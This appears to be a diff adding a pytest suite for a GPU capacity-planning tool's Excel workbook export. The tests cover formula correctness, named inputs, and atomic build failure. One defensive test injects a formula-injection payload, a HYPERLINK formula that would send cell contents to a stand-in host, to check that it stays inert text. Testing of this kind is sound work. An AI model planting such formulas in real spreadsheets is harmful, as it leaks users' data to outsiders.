@@ -1,0 +1,257 @@
+"""The workbook: live formulas that a real spreadsheet engine computes to the values we cache,
+named and styled inputs, text that stays text, and atomic failure."""
+
+from __future__ import annotations
+
+import math
+import os
+import re
+import zipfile
+from pathlib import Path
+
+import pytest
+import yaml
+from click.testing import CliRunner
+from openpyxl import load_workbook
+from openpyxl.formula.tokenizer import Tokenizer
+
+from planner.assumptions import ASSUMPTIONS
+from planner.build import WORKBOOK_NAME, run_build
+from planner.catalog import DEFAULT_GPUS, DEFAULT_MODELS
+from planner.cli import cli
+from planner.errors import PlannerError
+from planner.grid import DEFAULT_GRID
+from tests.recalc import recalculate
+from tests.workbook_dump import dump
+
+DATA = Path(__file__).parent / "data"
+SMALL = {"models_path": DATA / "small-models.yaml", "gpus_path": DATA / "small-gpus.yaml",
+         "grid_path": DATA / "small-grid.yaml"}
+GOLDEN = {"models_path": DATA / "small-models.yaml", "gpus_path": DATA / "small-gpus.yaml",
+          "grid_path": DATA / "golden-grid.yaml"}
+PORTABLE_FUNCTIONS = {"IF", "MIN", "MAX", "INT", "AND", "OR", "NOT", "INDEX", "MATCH"}
+
+
+def build(out: Path, models_path: Path = DEFAULT_MODELS, gpus_path: Path = DEFAULT_GPUS,
+          grid_path: Path = DEFAULT_GRID, overrides: dict | None = None) -> Path:
+    run_build(models_path, gpus_path, grid_path, out, overrides or {}, None)
+    return out / WORKBOOK_NAME
+
+
+def named_cell(wb, name: str):  # type: ignore[no-untyped-def]
+    sheet, coord = wb.defined_names[name].attr_text.replace("$", "").split("!")
+    return wb[sheet.strip("'")][coord]
+
+
+def formula_cells(path: Path):
+    """(sheet, coordinate, formula) of every formula cell."""
+    wb = load_workbook(path)
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    yield ws.title, cell.coordinate, cell.value
+
+
+def same(a: object, b: object) -> bool:
+    if isinstance(a, bool) or isinstance(b, bool) or isinstance(a, str) or isinstance(b, str):
+        return a == b
+    if isinstance(a, int | float) and isinstance(b, int | float):
+        return math.isclose(a, b, rel_tol=1e-9, abs_tol=1e-9)
+    return a == b
+
+
+def compare(expected: Path, actual: Path) -> list[str]:
+    """Formula cells whose values differ between two workbooks (data_only)."""
+    exp, act = load_workbook(expected, data_only=True), load_workbook(actual, data_only=True)
+    bad = []
+    for sheet, coord, formula in formula_cells(expected):
+        a, b = exp[sheet][coord].value, act[sheet][coord].value
+        if not same(a, b):
+            bad.append(f"{sheet}!{coord} {formula[:80]}: {a!r} vs {b!r}")
+    return bad
+
+
+@pytest.fixture(scope="module")
+def default_workbook(tmp_path_factory) -> Path:
+    return build(tmp_path_factory.mktemp("default"))
+
+
+@pytest.fixture(scope="module")
+def small_workbook(tmp_path_factory) -> Path:
+    return build(tmp_path_factory.mktemp("small"), **SMALL)
+
+
+# --- a real spreadsheet engine agrees with every cached value --------------------------------
+
+@pytest.mark.libreoffice
+def test_default_workbook_cached_values_equal_libreoffice(default_workbook, tmp_path) -> None:
+    recalculated = recalculate(default_workbook, tmp_path)
+    mismatches = compare(default_workbook, recalculated)
+    assert sum(1 for _ in formula_cells(default_workbook)) > 150_000
+    assert mismatches == [], "\n".join(mismatches[:20])
+
+
+@pytest.mark.libreoffice
+def test_no_cell_is_a_spreadsheet_error(small_workbook, tmp_path) -> None:
+    recalculated = load_workbook(recalculate(small_workbook, tmp_path), data_only=True)
+    errors = [f"{ws.title}!{c.coordinate}={c.value}" for ws in recalculated.worksheets
+              for row in ws.iter_rows() for c in row
+              if isinstance(c.value, str) and re.fullmatch(r"#[A-Z0-9/]+[!?]?|#N/A", c.value)]
+    assert errors == []
+
+
+@pytest.mark.libreoffice
+def test_editing_a_named_input_equals_rebuilding_with_set(small_workbook, tmp_path) -> None:
+    wb = load_workbook(small_workbook)
+    named_cell(wb, "gpu_memory_utilization").value = 0.8
+    edited = tmp_path / "edited" / "capacity-plan.xlsx"
+    edited.parent.mkdir()
+    wb.save(edited)
+    recalculated = recalculate(edited, tmp_path / "recalculated")
+    rebuilt = build(tmp_path / "rebuilt", **SMALL, overrides={"gpu_memory_utilization": 0.8})
+    assert compare(rebuilt, recalculated) == []
+    # and the edit really moved the numbers
+    assert compare(small_workbook, rebuilt) != []
+
+
+# --- what a previewer that cannot calculate sees ---------------------------------------------
+
+def test_every_formula_cell_carries_a_cached_value(small_workbook) -> None:
+    values = load_workbook(small_workbook, data_only=True)
+    missing = [f"{s}!{c}" for s, c, _ in formula_cells(small_workbook)
+               if values[s][c].value is None]
+    assert missing == []
+
+
+def test_excel_still_recalculates_on_open(small_workbook) -> None:
+    with zipfile.ZipFile(small_workbook) as zf:
+        assert 'fullCalcOnLoad="1"' in zf.read("xl/workbook.xml").decode()
+
+
+# --- formulas: portable, from the definitions, one lookup per row ----------------------------
+
+def test_formulas_use_only_portable_functions(small_workbook) -> None:
+    used: set[str] = set()
+    for _, _, formula in formula_cells(small_workbook):
+        for token in Tokenizer(formula).items:
+            if token.type == "FUNC" and token.subtype == "OPEN":
+                used.add(token.value.rstrip("("))
+    assert used <= PORTABLE_FUNCTIONS, used - PORTABLE_FUNCTIONS
+    assert {"OFFSET", "INDIRECT", "XLOOKUP", "LET"}.isdisjoint(used)
+
+
+def test_catalog_lookups_resolved_once_per_row(small_workbook) -> None:
+    ws = load_workbook(small_workbook)["Grid"]
+    for row in ws.iter_rows(min_row=2, max_row=5):
+        matches = [c for c in row if isinstance(c.value, str) and "MATCH(" in c.value]
+        assert len(matches) == 4  # model, GPU, weight format, KV format
+        assert all(c.value.count("MATCH(") == 1 for c in matches)
+
+
+def test_grid_formula_is_the_definition_rendered(small_workbook) -> None:
+    ws = load_workbook(small_workbook)["Grid"]
+    header = [c.value for c in ws[1]]
+    col = header.index("Weights [bytes, shown in GB]") + 1
+    assert ws.cell(row=2, column=col).value == (
+        "=INDEX(model_params_total,$I2)*INDEX(weight_bytes_per_param,$K2)")
+
+
+# --- inputs are inputs -----------------------------------------------------------------------
+
+def test_assumptions_are_named_styled_unlocked_inputs(small_workbook) -> None:
+    wb = load_workbook(small_workbook)
+    for name in ASSUMPTIONS:
+        cell = named_cell(wb, name)
+        assert cell.protection.locked is False, name
+        assert cell.font.color.rgb.endswith("0000FF"), name  # blue input text
+        assert cell.fill.fgColor.rgb.endswith("FFF2CC"), name
+    for ws in wb.worksheets:
+        assert ws.protection.sheet, ws.title
+        assert ws.protection.password is None
+
+
+def test_format_bytes_are_named_inputs(small_workbook) -> None:
+    wb = load_workbook(small_workbook)
+    assert named_cell(wb, "bytes_per_param_int4").value == pytest.approx(0.51953125)
+
+
+def test_every_grid_header_has_a_unit(small_workbook) -> None:
+    ws = load_workbook(small_workbook)["Grid"]
+    headers = [c.value for c in ws[1]]
+    unitless = [h for h in headers if "[" not in h and h not in ("Fits", "Weights fit",
+                                                                 "Decode bound by")]
+    assert unitless == []
+    assert not any(re.search(r"\bG\b", h) for h in headers)
+
+
+# --- catalog text is data --------------------------------------------------------------------
+
+def test_hyperlink_in_a_source_stays_text(tmp_path) -> None:
+    hostile = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
+    catalog = yaml.safe_load((DATA / "small-models.yaml").read_text())
+    catalog["models"]["llama-3.1-8b"]["source"] = hostile
+    models = tmp_path / "models.yaml"
+    models.write_text(yaml.safe_dump(catalog, sort_keys=False))
+    path = build(tmp_path / "out", models, SMALL["gpus_path"], SMALL["grid_path"])
+    ws = load_workbook(path)["Models"]
+    header = [c.value for c in ws[1]]
+    cell = ws.cell(row=2, column=header.index("source") + 1)
+    assert cell.value == hostile
+    assert cell.data_type == "s"
+    with zipfile.ZipFile(path) as zf:
+        sheets = " ".join(zf.read(n).decode() for n in zf.namelist() if "worksheets/sheet" in n)
+    assert "<f>HYPERLINK" not in sheets
+
+
+# --- failure leaves the output folder as it was ----------------------------------------------
+
+def snapshot(folder: Path) -> dict[str, bytes]:
+    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}
+
+
+@pytest.mark.parametrize("breakage", ["catalog", "grid", "set"])
+def test_failed_build_changes_nothing(tmp_path, breakage: str) -> None:
+    out = tmp_path / "out"
+    build(out, **SMALL)
+    (out / "notes.txt").write_text("kept")
+    before = snapshot(out)
+    args = ["build", "--out", str(out), "--models", str(SMALL["models_path"]),
+            "--gpus", str(SMALL["gpus_path"]), "--grid", str(SMALL["grid_path"])]
+    if breakage == "catalog":
+        bad = tmp_path / "bad-models.yaml"
+        bad.write_text(SMALL["models_path"].read_text().replace("hidden_size: 4096",
+                                                                 "hidden_size: -1", 1))
+        args[args.index("--models") + 1] = str(bad)
+    elif breakage == "grid":
+        bad = tmp_path / "bad-grid.yaml"
+        bad.write_text(SMALL["grid_path"].read_text().replace("tp: [1, 8]", "tp: [0]"))
+        args[args.index("--grid") + 1] = str(bad)
+    else:
+        args += ["--set", "gpu_memory_utilization=2"]
+    result = CliRunner().invoke(cli, args)
+    assert isinstance(result.exception, PlannerError)
+    assert snapshot(out) == before  # same files, same bytes, no partial files
+
+
+def test_grid_beyond_excel_rows_is_a_clear_error(tmp_path) -> None:
+    grid = tmp_path / "huge.yaml"
+    grid.write_text("grid:\n  models: all\n  gpus: all\n  weights: [bf16, fp8, int4, nvfp4]\n"
+                    "  kv: [bf16, fp8, fp16]\n  context: [" + ", ".join(
+                        str(1024 * (i + 1)) for i in range(200)) + "]\n"
+                    "  batch: [1, 2, 4, 8, 16, 32, 64, 128]\n  tp: [1, 8]\n")
+    out = tmp_path / "out"
+    with pytest.raises(PlannerError, match="more than the 1,048,575 rows"):
+        build(out, DEFAULT_MODELS, DEFAULT_GPUS, grid)
+    assert not out.exists() or list(out.iterdir()) == []
+
+
+# --- a readable golden dump of a tiny workbook -----------------------------------------------
+
+def test_golden_dump(tmp_path) -> None:
+    path = build(tmp_path, **GOLDEN)
+    golden = DATA / "golden-workbook.txt"
+    text = dump(path)
+    if os.environ.get("UPDATE_GOLDEN") == "1":
+        golden.write_text(text)
+    assert text == golden.read_text(), "run with UPDATE_GOLDEN=1 and review the diff"
